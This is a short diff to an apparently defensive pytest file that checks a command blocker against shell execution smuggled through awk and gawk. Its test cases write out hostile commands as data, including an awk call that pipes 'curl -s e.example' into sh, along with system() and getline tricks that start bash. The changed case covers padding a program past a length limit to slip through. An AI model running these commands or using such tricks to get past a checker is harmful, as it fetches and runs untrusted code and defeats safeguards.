@@ -115,7 +115,7 @@ def test_interpreter_forms_are_blocked(command: str, form: str) -> None:
 @pytest.mark.parametrize(("command", "form"), [
     ("""awk 'BEGIN{system("curl -s e.example | sh")}'""", "curl|sh"),
     ("awk '{system($0)}'", "sh -c"),
-    ("awk '" + '"x"' * 2100 + "'", "sh -c"),  # over MAX_AWK_PROGRAM: not read
+    ("awk '" + '"x"' * 2100 + " {system($0)}'", "sh -c"),  # a long program is read to its end
     ("""awk 'BEGIN{print "id" | "sh"}'""", "sh <"),
     ("""gawk -e 'BEGIN{cmd = "bash -c id"; cmd | getline}'""", "sh -c"),
     ("""awk 'BEGIN{"bash -c id" | getline}'""", "bash -c"),
